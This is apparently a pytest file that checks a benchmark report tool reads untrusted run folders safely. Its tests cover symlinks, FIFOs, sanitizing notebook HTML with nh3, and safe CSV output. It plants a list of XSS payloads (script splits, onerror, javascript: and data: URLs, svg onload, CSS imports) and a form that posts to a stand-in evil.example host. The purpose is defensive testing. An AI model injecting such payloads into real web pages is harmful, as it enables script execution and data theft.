"""Folders from anyone (issue 28): the report and compare read run folders that may come from
anyone, and the report folder is zipped and shared.

- nothing outside a run folder is read, copied or linked: no symbolic link is followed (a file, a
  table, a meta.json, the run folder itself), no FIFO is opened; what is skipped is named on the
  page beside its run;
- a notebook's HTML is cleaned by an allow-list (nh3) before it is copied: nothing in the copy runs
  or loads from elsewhere, and a real export's text, tables and images stay; without nh3 nothing
  is copied, and the page says why;
- a broken errata file or an unreadable run folder is named, and everything else still shows;
- ``compare --csv`` never writes into a run folder and never replaces a file it did not write;
  bad values are one-line errors with exit code 2.

Run folders are built under tmp_path with the helpers of tests/test_report_safety.py and
tests/test_compare.py; no model runs and the project's results/ is never read.
"""
from __future__ import annotations

import base64
import html
import json
import os
import signal
import sys
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from test_compare import run_folder
from test_report_safety import (PNG, STUDIES, base_meta, long_table, make_run, results,  # noqa: F401
                                row_of, tree)
from workbench import cli
from workbench import report as rep
from workbench.studies import Summary

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY----- not for the report"
RUN = "20300101T000000Z-abc1234-one"            # the `results` fixture's local run


@pytest.fixture
def no_hang():
    """A test that would block on a FIFO fails after a minute instead of hanging the suite."""
    def expire(signum, frame):
        raise TimeoutError("the report blocked: it opened something it should not have")

    before = signal.signal(signal.SIGALRM, expire)
    signal.alarm(60)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


@pytest.fixture
def secret(tmp_path) -> Path:
    """A file of the reader's, outside every run folder."""
    path = tmp_path / "home" / ".ssh" / "id_rsa"
    path.parent.mkdir(parents=True)
    path.write_bytes(SECRET)
    return path


def leaked(folder: Path, needle: bytes = SECRET) -> list[str]:
    """Files (or links) under ``folder`` that hold ``needle`` or are links."""
    return [rel for rel, v in tree(folder).items()
            if (isinstance(v, bytes) and needle in v) or (isinstance(v, str) and v.startswith("link"))]


# --------------------------------------------------------------------------- 1. nothing from outside a run folder


def test_report_never_copies_a_symlinked_notebook(results, secret, base_meta):
    run = results / RUN
    (run / "demo.html").symlink_to(secret)
    bad = make_run(results, "20300102T000000Z-abc1234-bad", base_meta | {"git": "x"}, {"demo": long_table()})
    (bad / "demo.html").symlink_to(secret)              # a run whose meta.json the report rejects
    result = rep.build_report(results, studies=STUDIES)
    out = result.index.parent
    assert leaked(out) == []
    assert not (out / rep.RUNS_DIRNAME / RUN / "demo.html").exists()
    page = result.index.read_text()
    assert f'href="{rep.RUNS_DIRNAME}/{RUN}/demo.html"' not in page    # its table not linked to it
    assert f"<li>{RUN}: demo.html: a symbolic link; not read or copied</li>" in page
    assert "1 file not read" in row_of(page, RUN)
    assert (out / rep.RUNS_DIRNAME / RUN / "meta.json").is_file()      # its own meta.json still is


def test_a_symlinked_meta_table_or_run_folder_is_not_read(results, secret, base_meta, tmp_path):
    outside = tmp_path / "outside"                        # a real run of the reader's, elsewhere
    make_run(outside, "theirs", base_meta | {"device": "SECRET-DEVICE"}, {"demo": long_table("SECRET-DEVICE")})
    linked_meta = make_run(results, "20300102T000000Z-abc1234-meta", None, {"demo": long_table()})
    (linked_meta / "meta.json").symlink_to(outside / "theirs" / "meta.json")
    linked_table = make_run(results, "20300102T000001Z-abc1234-table", base_meta)
    (linked_table / "demo.parquet").symlink_to(outside / "theirs" / "demo.parquet")
    (results / "20300102T000002Z-abc1234-linked").symlink_to(outside / "theirs", target_is_directory=True)

    result = rep.build_report(results, studies=STUDIES)
    by_name = {r.name: r for r in result.runs}
    assert "a symbolic link" in by_name[linked_meta.name].error and by_name[linked_meta.name].tables == {}
    assert by_name[linked_table.name].tables == {} and "demo.parquet" in by_name[linked_table.name].skipped
    assert "not followed" in by_name["20300102T000002Z-abc1234-linked"].error
    (section,) = result.sections
    assert section.runs == [RUN, "20300101T000001Z-abc1234-ref"]          # none of the linked tables
    page = result.index.read_text()
    assert "SECRET-DEVICE" not in page and leaked(result.index.parent, b"SECRET-DEVICE") == []
    for name in by_name:
        assert html.escape(name) in page


def test_a_fifo_in_a_run_folder_is_named_and_never_opened(results, base_meta, no_hang):
    fifo_meta = make_run(results, "20300102T000000Z-abc1234-fifo-meta", None, {"demo": long_table()})
    os.mkfifo(fifo_meta / "meta.json")
    os.mkfifo(results / RUN / "demo.html")
    fifo_table = make_run(results, "20300102T000001Z-abc1234-fifo-table", base_meta)
    os.mkfifo(fifo_table / "demo.parquet")
    unfinished = make_run(results, "20300102T000002Z-abc1234-open",
                          base_meta | {"finished_at": None, "params": {"mode": "papermill", "studies": {"demo": {}}}},
                          {"demo": long_table()})
    os.mkfifo(unfinished / "demo.ipynb")                  # what a resume reads its state from
    os.mkfifo(results / "reference" / rep.ERRATA_NAME)

    result = rep.build_report(results, studies=STUDIES)
    by_name = {r.name: r for r in result.runs}
    assert "it is a FIFO" in by_name[fifo_meta.name].error
    assert by_name[RUN].skipped == {"demo.html": "a FIFO"}
    assert by_name[fifo_table.name].skipped == {"demo.parquet": "a FIFO"}
    page = result.index.read_text()
    assert "its stages are not read: demo.ipynb: not a regular file" in row_of(page, unfinished.name)
    assert "errata.json: not used, so no known problem of a run is shown (it is a FIFO" in page
    (section,) = result.sections
    assert RUN in section.runs and unfinished.name in section.runs


def test_a_run_folder_that_cannot_be_listed_is_listed_and_the_rest_shows(results, base_meta, monkeypatch):
    """As root chmod 000 stops nothing, so listing the folder fails by monkeypatch; a meta.json
    that is a folder is the other unreadable run."""
    locked = make_run(results, "20300102T000000Z-abc1234-locked", base_meta, {"demo": long_table()})
    folder_meta = make_run(results, "20300102T000001Z-abc1234-dirmeta", None, {"demo": long_table()})
    (folder_meta / "meta.json").mkdir()
    real_listdir = os.listdir

    def listdir(path="."):
        if Path(path) == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return real_listdir(path)

    monkeypatch.setattr(os, "listdir", listdir)
    result = rep.build_report(results, studies=STUDIES)
    by_name = {r.name: r for r in result.runs}
    assert by_name[locked.name].error.startswith("the folder cannot be listed (Permission denied)")
    assert "it is a folder, not a regular file" in by_name[folder_meta.name].error
    page = result.index.read_text()
    assert "Permission denied" in row_of(page, locked.name)
    assert "it is a folder, not a regular file" in row_of(page, folder_meta.name)
    (section,) = result.sections
    assert section.error is None and section.runs == [RUN, "20300101T000001Z-abc1234-ref"]


def test_a_deeply_nested_errata_file_is_named_and_the_rest_shows(results):
    (results / "reference" / rep.ERRATA_NAME).write_text("[" * 100_000 + "]" * 100_000)
    logged: list[str] = []
    result = rep.build_report(results, studies=STUDIES, log=logged.append)
    page = result.index.read_text()
    assert '<p class="problem">reference/errata.json: not used, so no known problem of a run is shown ' \
           "(nested too deeply to parse)</p>" in page
    assert "<p>demo: 1 run(s)</p>" in page                  # each device's view still shows
    assert any("errata.json: not used" in line for line in logged)


def test_a_figure_that_is_a_link_is_not_shown_or_copied(results, secret):
    def summarize(df, out_dir):
        (Path(out_dir) / "demo_values.png").symlink_to(secret)
        return Summary(text="linked figure", figures=[Path(out_dir) / "demo_values.png"])

    result = rep.build_report(results, studies={"demo": SimpleNamespace(name="demo", summarize=summarize)})
    out = result.index.parent
    assert all("not a regular file" in v.error for v in result.sections[0].views)
    assert [rel for rel, v in tree(out).items() if isinstance(v, bytes) and SECRET in v] == []


def test_a_benchmark_file_that_is_a_link_is_not_read(tmp_path, secret):
    from workbench import benchmarks

    secret.write_text(json.dumps({"benchmark": "fake_bench", "device": "SECRET-GPU"}))
    (tmp_path / "reference").mkdir()
    (tmp_path / "reference" / "fake-1.json").symlink_to(secret)

    def summarize(path, doc, out_dir):
        return benchmarks.BenchmarkPanel(source=path.name, device=doc["device"], text=doc["device"])

    fake = benchmarks.Benchmark(name="fake_bench", title="Fake bench", summarize=summarize, files="fake-*.json")
    result = rep.build_report(tmp_path, studies={}, benchmarks={"fake_bench": fake})
    (bench,) = [b for b in result.benchmarks if b.name == "fake_bench"]
    (panel,) = bench.panels
    assert "a symbolic link" in panel.error and "SECRET-GPU" not in result.index.read_text()


# --------------------------------------------------------------------------- 2. notebook HTML: an allow-list

PNG_B64 = base64.b64encode(PNG).decode()
PLANTED = [
    "<scr<script></script>ipt>alert('split')</script>",
    "<img src=x onerror=alert('onerror')>",
    "<a href=\"javascript:alert('js')\">js</a>",
    "<a href=\"JaVaScRiPt:alert('mixed')\">mixed</a>",
    "<a href=\" java&#x09;script:alert('tab')\">tab</a>",
    "<a href=\"data:text/html,<script>alert('data')</script>\">data</a>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "<svg onload=alert('svg')><script>alert('svg script')</script><circle r=1 /></svg>",
    "<img src=\"https://tracker.example/pixel.png\">",
    "<img src=\"//tracker.example/pixel.png\">",
    "<link rel=stylesheet href=https://cdn.example/x.css>",
    "<meta http-equiv=refresh content=\"0; url=https://evil.example/\">",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<form action=\"https://evil.example/steal\"><input name=q></form>",
    "<base href=\"https://evil.example/\">",
    "<style>@import url(https://evil.example/x.css); p { color: red }</style>",
    "<style>p { background: \\75 rl(https://evil.example/escaped.png) }</style>",
    "<div style=\"background: url(https://evil.example/inline.png)\">styled</div>",
]
TABLE = pd.DataFrame({"size": [224, 448], "staging_us": [12.5, 48.25]})


def export_like(plants: list[str]) -> str:
    """What nbconvert's HTML export of an executed notebook looks like: its CDN scripts and inline
    styles, a text output, a pandas table, a PNG; ``plants`` in an HTML output, an unclosed
    ``<script>`` last."""
    return ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>demo</title>"
            "<script src='https://cdnjs.cloudflare.com/ajax/libs/require.js/2.1.10/require.min.js'></script>"
            "<style type='text/css'>pre { line-height: 125%; }</style></head>"
            "<body class='jp-Notebook'><main>"
            "<div class='jp-RenderedText jp-OutputArea-output'><pre>hello from the text output</pre></div>"
            f"<div class='jp-RenderedHTMLCommon'>{TABLE.to_html()}</div>"
            f"<div class='jp-RenderedImage'><img alt='a figure' src='data:image/png;base64,{PNG_B64}'></div>"
            "<p>see <a href='https://example.org/doc'>the docs</a></p>"
            + "".join(plants) + "</main></body></html><script>alert('unclosed')")


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        if self._in_style:
            self.styles.append(data)


def assert_runs_and_loads_nothing(page: str) -> _Elements:
    """No executable form and no load from elsewhere in ``page``, as a browser would parse it."""
    p = _Elements()
    p.feed(page)
    for tag, attrs in p.tags:
        assert tag not in {"script", "iframe", "frame", "object", "embed", "base", "form", "link", "svg",
                           "math", "applet"}, tag
        if tag == "meta":
            assert set(attrs) <= {"charset", "http-equiv", "content"}, attrs
            assert attrs.get("http-equiv", "content-security-policy").lower() == "content-security-policy"
        for key, value in attrs.items():
            url = "".join(value.split()).lower()
            assert not key.startswith("on"), (tag, key)
            assert "javascript:" not in url and "data:text" not in url and "vbscript:" not in url, (tag, key)
            if key in ("src", "href") and not url.startswith(("data:image/png", "https://example.org/")):
                assert ":" not in url and not url.startswith(("/", "\\")), url    # a path in the folder
    for css in p.styles:
        assert "@import" not in css and "url(http" not in css.lower() and "\\75" not in css
    return p


def test_notebook_html_is_cleaned_by_an_allow_list(results):
    (results / RUN / "demo.html").write_text(export_like(PLANTED))
    result = rep.build_report(results, studies=STUDIES)
    page = result.index.read_text()
    link = f'href="{rep.RUNS_DIRNAME}/{RUN}/demo.html"'
    assert link in page                                  # linked from the Runs table
    copy = (result.index.parent / rep.RUNS_DIRNAME / RUN / "demo.html").read_text()
    p = assert_runs_and_loads_nothing(copy)
    assert "hello from the text output" in copy and "staging_us" in copy and "48.25" in copy
    assert ("img", {"alt": "a figure", "src": f"data:image/png;base64,{PNG_B64}"}) in p.tags
    assert ("a", {"href": "https://example.org/doc", "rel": "noopener noreferrer"}) in p.tags
    assert "pre { line-height: 125%; }" in p.styles      # the page stays readable
    assert "allow-list" in copy.split("<title>")[0]      # the note says what was done


def test_a_real_notebook_export_keeps_its_outputs_and_loses_the_planted_forms(results):
    nbconvert = pytest.importorskip("nbconvert")
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

    nb = new_notebook(cells=[
        new_markdown_cell("# Staging\nPlanted in markdown: " + PLANTED[1] + PLANTED[3]),
        new_code_cell("print('hello')", outputs=[new_output("stream", name="stdout", text="hello stdout\n")]),
        new_code_cell("table", outputs=[new_output("execute_result", execution_count=2, data={
            "text/html": TABLE.to_html(), "text/plain": str(TABLE)})]),
        new_code_cell("plot", outputs=[new_output("display_data", data={"image/png": PNG_B64, "text/plain": "<Figure>"})]),
        new_code_cell("planted", outputs=[new_output("display_data", data={"text/html": "".join(PLANTED)})]),
    ])
    body, _ = nbconvert.HTMLExporter().from_notebook_node(nb)
    (results / RUN / "demo.html").write_text(body)
    result = rep.build_report(results, studies=STUDIES)
    copy = (result.index.parent / rep.RUNS_DIRNAME / RUN / "demo.html").read_text()
    p = assert_runs_and_loads_nothing(copy)
    assert "hello stdout" in copy and "48.25" in copy
    assert any(t == "img" and a.get("src") == f"data:image/png;base64,{PNG_B64}" for t, a in p.tags)
    assert any(t == "table" for t, _ in p.tags) and sum(len(s) for s in p.styles) > 10_000   # its theme stays


def test_without_nh3_no_notebook_html_is_copied_and_the_page_says_why(results, monkeypatch):
    (results / RUN / "demo.html").write_text(export_like([]))
    monkeypatch.setitem(sys.modules, "nh3", None)          # import nh3 raises ImportError
    with pytest.raises(ImportError):
        rep.localize_html("<p>x</p>")
    result = rep.build_report(results, studies=STUDIES)
    out = result.index.parent
    assert list(out.rglob("demo.html")) == []
    page = result.index.read_text()
    assert html.escape(rep.NO_SANITIZER) in page and "demo.html" not in page
    assert (out / rep.RUNS_DIRNAME / RUN / "meta.json").is_file()


# --------------------------------------------------------------------------- 3. compare --csv


def compare(capsys, *args) -> tuple[int, str, str]:
    """``python -m workbench compare ...`` in this process: (exit code, stdout, stderr)."""
    try:
        code = cli.main(["compare", *map(str, args)])
    except SystemExit as e:
        code = e.code
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def two_runs(tmp_path):
    a = run_folder(tmp_path, "run-a", "2030-01-01T00:00:00Z", [(64, "graph", "ok", 1.0, "bool")])
    b = run_folder(tmp_path, "run-b", "2030-01-02T00:00:00Z", [(64, "graph", "ok", 0.0, "bool")])
    return tmp_path, a, b


def test_compare_csv_never_writes_into_a_run_folder(two_runs, capsys):
    root, a, b = two_runs
    (a / "figures").mkdir()
    (root / "by-hand").mkdir()                            # below the results folder: a run folder's place
    before = tree(root)
    for target in (a / "lat.parquet", a / "new.csv", a / "figures" / "x.csv", root / "by-hand" / "x.csv"):
        code, _, err = compare(capsys, "run-a", "run-b", "--results", root, "--csv", target, "--force")
        assert code == 2 and str(target) in err and "run folder" in err and len(err.strip().splitlines()) == 1, err
    assert tree(root) == before


def test_a_stray_table_above_the_csv_does_not_make_a_run_folder(two_runs, capsys, tmp_path_factory):
    """/tmp holding someone's ``x.parquet`` is not a run folder: only meta.json or a study's table makes one."""
    root, a, b = two_runs
    elsewhere = tmp_path_factory.mktemp("mine")
    (elsewhere / "corr_memo.parquet").write_bytes(b"not ours")
    (elsewhere / "sub").mkdir()
    assert compare(capsys, "run-a", "run-b", "--results", root, "--csv", elsewhere / "sub" / "all.csv")[0] == 0
    assert (elsewhere / "sub" / "all.csv").is_file()
    (elsewhere / "correctness.parquet").write_bytes(b"a study's table")      # that does make one
    code, _, err = compare(capsys, "run-a", "run-b", "--results", root, "--csv", elsewhere / "sub" / "b.csv")
    assert code == 2 and "run folder" in err


def test_compare_csv_never_replaces_a_file_it_did_not_write(two_runs, capsys):
    root, a, b = two_runs
    mine = root / "mine.csv"
    mine.write_text("my,own\n1,2\n")
    code, _, err = compare(capsys, "run-a", "run-b", "--results", root, "--csv", mine, "--force")
    assert code == 2 and "is not a CSV compare wrote" in err and mine.read_text() == "my,own\n1,2\n"
    ours = root / "ours.csv"
    assert compare(capsys, "run-a", "run-b", "--results", root, "--csv", ours)[0] == 0
    first = ours.read_text()
    assert first.splitlines()[0].endswith(",metric,unit,a,b,ratio,flag")
    code, _, err = compare(capsys, "run-b", "run-a", "--results", root, "--csv", ours)
    assert code == 2 and "--force" in err and ours.read_text() == first
    assert compare(capsys, "run-b", "run-a", "--results", root, "--csv", ours, "--force")[0] == 0
    assert ours.read_text() != first and len(pd.read_csv(ours)) == 1


def test_compare_csv_into_a_folder_or_a_missing_folder_is_a_one_line_error(two_runs, capsys):
    root, a, b = two_runs
    for target, words in ((root, "it is a folder"), (root / "missing" / "x.csv", "does not exist")):
        code, _, err = compare(capsys, "run-a", "run-b", "--results", root, "--csv", target)
        assert code == 2 and words in err and str(target) in err and len(err.strip().splitlines()) == 1, err
    assert not (root / "missing").exists()


def test_compare_an_unknown_study_is_an_error_listing_the_valid_ones(two_runs, capsys):
    root, a, b = two_runs
    code, out, err = compare(capsys, "run-a", "run-b", "--results", root, "--studies", "lat,bogus")
    assert code == 2 and "'bogus'" in err and "they hold: lat" in err and out == ""
    assert compare(capsys, "run-a", "run-b", "--results", root, "--studies", "lat")[0] == 0


def test_an_interrupted_compare_csv_leaves_no_half_file(two_runs, capsys, monkeypatch):
    root, a, b = two_runs
    target = root / "all.csv"

    def interrupted(src, dst):
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        cli.main(["compare", "run-a", "run-b", "--results", str(root), "--csv", str(target)])
    assert sorted(p.name for p in root.iterdir()) == ["run-a", "run-b"]      # neither the file nor a temporary one
